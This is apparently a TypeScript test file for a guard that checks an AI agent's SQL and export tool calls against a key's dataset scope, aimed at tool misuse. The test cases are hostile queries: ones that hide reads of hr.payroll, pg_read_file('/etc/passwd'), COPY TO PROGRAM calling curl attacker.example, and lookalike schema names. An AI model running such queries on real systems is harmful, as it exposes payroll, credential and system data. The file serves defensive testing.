import { describe, expect, test } from "vitest";
import { attackedWard } from "./attacked-ward.ts";
import type { AttackedWard } from "./attacked-ward.ts";

// ASI02, tool misuse. Who: an agent with a tool that it may use. What: to have the tool do what the key
// is not for, by saying one thing in the label of a call and another in what the tool reads. What
// holds: the resource is derived from what the tool is given, and rewritten arguments are decided again.

const scopes = ["warehouse:read", "warehouse:export"];
const constraints = { dataset: ["sales"] };

async function ask(
  ward: AttackedWard,
  token: string,
  args: object,
): ReturnType<typeof ward.attempt> {
  return await ward.attempt({ token }, { tool: "sql_query", args });
}

describe("a label of `sales` over SQL", () => {
  test.for([
    ["another table", "SELECT * FROM hr.payroll"],
    ["another table in a subquery", "SELECT (SELECT max(pay) FROM hr.payroll) FROM sales.orders"],
    ["another table in a common table expression", "WITH p AS (TABLE hr.payroll) SELECT * FROM p"],
    ["another table behind a comment", "SELECT * FROM/**/hr.payroll -- sales.orders"],
    [
      "another table in a union",
      "SELECT id FROM sales.orders UNION ALL SELECT pay FROM hr.payroll",
    ],
    ["a schema whose name begins like the label", "SELECT * FROM sales_secret.orders"],
    ["a schema of confusable letters", 'SELECT * FROM "s\u0430les".orders'],
    ["a schema of fullwidth letters", "SELECT * FROM \uff53ales.orders"],
    ["a name with a dot in it", 'SELECT * FROM "sales.orders"'],
    ["a name that is escaped", 'SELECT * FROM U&"h\\0072".payroll'],
    [
      "SQL in an argument of a function",
      "SELECT query_to_xml('SELECT * FROM hr.payroll', true, true, '')",
    ],
    ["a file of the server", "SELECT pg_read_file('/etc/passwd')"],
    ["a program of the server", "COPY sales.orders TO PROGRAM 'curl attacker.example'"],
    ["code", "DO $$ BEGIN EXECUTE 'TABLE hr.payroll'; END $$"],
    ["a second statement", "SELECT * FROM sales.orders; SELECT * FROM hr.payroll"],
    ["a comment that other servers execute", "SELECT 1 /*! UNION SELECT pay FROM hr.payroll */"],
    ["a path that names are looked up in", "SELECT set_config('search_path', 'hr', false)"],
    ["the system's own tables", "SELECT * FROM pg_catalog.pg_authid"],
    ["nothing that can be read", "SELECT * FROM (("],
  ] as const)("that reads %s does not run", async ([, query]) => {
    const ward = await attackedWard();
    const token = await ward.token(scopes, { constraints });
    const { ran, codes } = await ask(ward, token, { query, dataset: "sales" });
    expect({ ran, codes }).toEqual({ ran: [], codes: ["engine:resource_underived"] });
  });

  test("without any label does not run where the key is for other datasets", async () => {
    const ward = await attackedWard();
    const token = await ward.token(scopes, { constraints });
    expect(await ask(ward, token, { query: "SELECT * FROM hr.payroll" })).toMatchObject({
      ran: [],
      codes: ["key:constraint"],
    });
  });

  test.for([
    "DELETE FROM sales.orders",
    "WITH gone AS (DELETE FROM sales.orders RETURNING *) SELECT * FROM gone",
    "SELECT * FROM sales.orders FOR UPDATE",
    "EXPLAIN ANALYZE DELETE FROM sales.orders",
  ])("that writes is no question: %s", async (query) => {
    const ward = await attackedWard();
    const token = await ward.token(scopes, { constraints });
    const { ran, codes } = await ask(ward, token, { query, dataset: "sales" });
    expect({ ran, codes }).toEqual({ ran: [], codes: ["only_reads"] });
  });

  test("the application cannot say for the normaliser that it only reads", async () => {
    const ward = await attackedWard();
    const token = await ward.token(scopes, { constraints });
    const { ran } = await ward.attempt(
      { token },
      {
        tool: "sql_query",
        args: { query: "DELETE FROM sales.orders", dataset: "sales" },
        facts: { sql: { access: "read", statements: 1 } },
      },
    );
    expect(ran).toEqual([]);
  });

  test("that says the truth runs", async () => {
    const ward = await attackedWard();
    const token = await ward.token(scopes, { constraints });
    const args = { query: "SELECT o.total FROM sales.orders o", dataset: "sales" };
    expect(await ask(ward, token, args)).toMatchObject({ kind: "done", ran: [args] });
  });
});

describe("a number that a rule compares", () => {
  test.for<readonly [string, unknown]>([
    ["a text", "1000000"],
    ["a list", [1_000_000]],
    ["an object", { valueOf: 1_000_000 }],
    ["true", true],
  ])("is not passed by as %s", async ([, limit]) => {
    const ward = await attackedWard();
    const token = await ward.token(scopes, { constraints });
    const { ran, kind } = await ward.attempt(
      { token },
      { tool: "export_rows", args: { dataset: "sales", limit } },
    );
    // Rego orders values of all types: what is no number is above each number.
    expect({ ran, kind }).toEqual({ ran: [], kind: kind === "deny" ? "deny" : "approval" });
  });

  test.for([
    { dataset: "sales" },
    { dataset: "sales", limit: null },
    { dataset: "sales", limit: -1 },
  ])("is not passed by, left out or below all: %o", async (args) => {
    const ward = await attackedWard();
    const token = await ward.token(scopes, { constraints });
    const { ran, codes } = await ward.attempt({ token }, { tool: "export_rows", args });
    expect({ ran, codes }).toEqual({ ran: [], codes: ["limit_missing"] });
  });
});
